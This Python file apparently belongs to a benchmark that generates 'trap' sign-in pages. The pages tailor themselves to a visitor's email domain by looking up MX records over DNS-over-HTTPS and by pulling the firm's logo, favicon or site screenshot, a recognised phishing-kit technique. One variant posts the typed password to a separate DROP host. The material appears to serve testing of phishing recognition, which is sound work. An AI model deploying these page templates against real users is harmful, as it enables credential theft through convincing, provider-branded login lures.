"""Traps that ask public services who the visitor's provider is, or what their firm looks like."""

from collections.abc import Iterator

from bench.pages.sites.development.template import BODY, DROP, PAINT, TRAP, page
from bench.pages.sites.site import Site, one, site

_WHO = f"{PAINT}var who=location.hash.slice(1),host=who.split('@')[1]||'';"
_NAMED = "function mx(t){paint(who,/google/i.test(t)?'Provider A':/outlook|microsoft/i.test(t)?'Provider B':host?host+' Webmail':'Mail')}"
_QUERY = """
function question(d){var b=[0,7,1,0,0,1,0,0,0,0,0,0];d.split('.').forEach(function(l){b.push(l.length);
for(var i=0;i<l.length;i++)b.push(l.charCodeAt(i))});b.push(0,0,15,0,1);return new Uint8Array(b)}
function words(b){return String.fromCharCode.apply(null,new Uint8Array(b))}
"""
_JSON = ".then(function(r){return r.json()}).then(function(r){mx((r.Answer||[]).map(function(a){return a.data}).join())})"
_WIRE = ".then(function(r){return r.arrayBuffer()}).then(function(b){mx(words(b))})"
_ASKS = {
    "JSON of Google": f"fetch('https://dns.google/resolve?type=MX&name='+host){_JSON}",
    "JSON of Cloudflare": "fetch('https://cloudflare-dns.com/dns-query?name='+host+'&type=MX',"
    f"{{headers:{{accept:'application/dns-json'}}}}){_JSON}",
    "wire, by GET": f"{_QUERY}fetch('https://dns.google/dns-query?dns='+btoa(words(question(host).buffer))"
    f".replace(/\\+/g,'-').replace(/\\//g,'_').replace(/=+$/,''),{{headers:{{accept:'application/dns-message'}}}}){_WIRE}",
    "wire, by POST": f"{_QUERY}fetch('https://cloudflare-dns.com/dns-query',{{method:'POST',"
    f"headers:{{'content-type':'application/dns-message',accept:'application/dns-message'}},body:question(host)}}){_WIRE}",
}
_PICTURES = {
    "logo, Clearbit": "https://logo.clearbit.com/'+host+'",
    "logo, Unavatar": "https://unavatar.io/'+host+'",
    "favicon, Google": "https://www.google.com/s2/favicons?sz=128&domain='+host+'",
    "favicon, DuckDuckGo": "https://icons.duckduckgo.com/ip3/'+host+'.ico",
}
_BACKS = {
    "screenshot, thum.io": "https://image.thum.io/get/width/1200/https://'+host+'/",
    "screenshot, mshots": "https://s0.wp.com/mshots/v1/https%3A%2F%2F'+host+'?w=1200",
}


def sites() -> Iterator[Site]:
    """Mail exchangers by JSON and wire, logos, icons and screenshots."""
    for variant, asks in _ASKS.items():
        yield _trap("mail exchanger", variant, page("Sign in", script=f"{_WHO}{_NAMED}if(host){asks}"))
    typed = (
        f"{PAINT}{_NAMED}var who='',host='';document.getElementById('login').onchange=function(){{"
        f"who=this.value;host=who.split('@')[1];{_ASKS['JSON of Google']}}}"
    )
    yield site(
        "asks for the mail exchanger", "of a typed address", "trap", one(f"{TRAP}/", page("Sign in", script=typed)),
        adapts=True,
    )  # fmt: skip
    for variant, address in _PICTURES.items():
        shows = f"if(host)document.getElementById('logo').innerHTML='<img width=120 src=\"{address}\">';"
        fills = "document.getElementById('login').value=who;"
        yield _trap("picture", variant, page("Sign in", script=_WHO + shows + fills))
    for variant, address in _BACKS.items():
        shows = f"if(host)document.body.style.background='url(\"{address}\") center/cover';"
        yield _trap("picture", variant, page("Sign in", script=_WHO + shows))
    both = "if(host){document.getElementById('logo').innerHTML='<img src=\"https://logo.clearbit.com/'+host+'\">';paint(who)}"
    yield _trap("picture", "logo, with names of its own", page("Sign in", BODY, _WHO + both))
    yield from _named_after_hosts()
    where = "fetch('https://ipapi.co/json/').then(function(r){return r.json()}).catch(function(){return {}}).then(function(){paint(who)})"
    yield _trap("picture", "after where the visitor is", page("Sign in", BODY, _WHO + where))


def _named_after_hosts() -> Iterator[Site]:
    """The same below a name of the page's own, which is none: words, in the title alone, of a host that anybody
    gets, or of one to which the password does not go.
    """
    logo = "if(host)x.src='https://logo.clearbit.com/'+host;"
    away = f"document.forms[0].onsubmit=function(e){{e.preventDefault();fetch('{DROP}/p',{{method:'POST',body:secret.value}})}};"
    for variant, host, heading, more in (
        ("words of its host", "https://secure-mail-portal.test", "Secure mail portal", ""),
        ("its host's name in the title alone", TRAP, "Sign in", ""),
        ("its host's name, on a host of everybody's", "https://harbour-files.web.app", "Harbour files", ""),
        ("its host's name, the password sent elsewhere", TRAP, "Victim site", away),
    ):
        title = "Victim site" if host == TRAP else heading
        body = "<img id=x width=120 height=60 alt=''>" + BODY.replace("<h1>Sign in", f"<h1>{heading}")
        yield site(
            "asks for the picture", f"logo, {variant}", "trap",
            one(f"{host}/mail/#{{}}", page(title, body, f"{_WHO}{logo}{more}")), adapts=True,
        )  # fmt: skip


def _trap(what: str, variant: str, source: str) -> Site:
    return site(f"asks for the {what}", variant, "trap", one(f"{TRAP}/mail/#{{}}", source), adapts=True)
